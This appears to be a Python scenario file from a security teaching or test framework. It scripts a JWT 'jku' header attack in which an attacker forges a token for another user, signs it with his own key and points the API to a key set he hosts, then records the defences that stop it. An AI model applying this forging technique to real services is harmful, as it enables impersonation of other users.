"""The attacker signs with a new key, and the token names a URL with the public key."""

from scenarios.attacks.access_tokens.mallory import OWN_TOKEN, own_token
from scenarios.attacks.stage import Stage
from scenarios.attacks.story import Defence, Story
from scenarios.forging import Jwt, Signer
from scenarios.impostors.authorization_server import AuthorizationServer
from tracing.catalogue import RESOURCE_SERVER


def _play(stage: Stage) -> str | None:
    stage.tell(OWN_TOKEN)
    token, own = own_token(stage), Signer("Mallory")

    with AuthorizationServer(owner="Mallory") as server:
        stage.tell(
            "He publishes a key set of his own, at his own address, and writes that address into "
            "the header (jku), with the name of his key (kid). He writes alice into the claims, "
            "and signs with his own private key."
        )
        header = {"kid": own.kid("ES256"), "jku": f"{server.url}/jwks"}
        forged = Jwt.read(token, own).but(sub="alice").with_header(**header).signed("ES256")
        notes = stage.notes_read(forged)
    return notes and f"With a token whose key the API was to fetch from him: {notes}"


STORY = Story(
    slug="attackers-jku",
    title="A token that says where its key is to be fetched",
    attacker="Mallory, a user with an account of his own",
    victim="Alice, another user",
    clause="RFC 8725 §3.10, RFC 7515 §4.1.2",
    idea="An API that does not know a key fetches it, and the header of the token can tell it "
    "where. Even if the token is then refused, the attacker has chosen an address for a server to "
    "fetch.",
    has="An access token of his own, a key pair, and a web server.",
    lesson="The API never looks at jku. It fetches one address, which the issuer's metadata names, "
    "and refuses a token whose key is not there.",
    stopped_by=(
        Defence(RESOURCE_SERVER, "key_is_published"),
        Defence(RESOURCE_SERVER, "signature_is_valid"),
    ),
    play=_play,
)
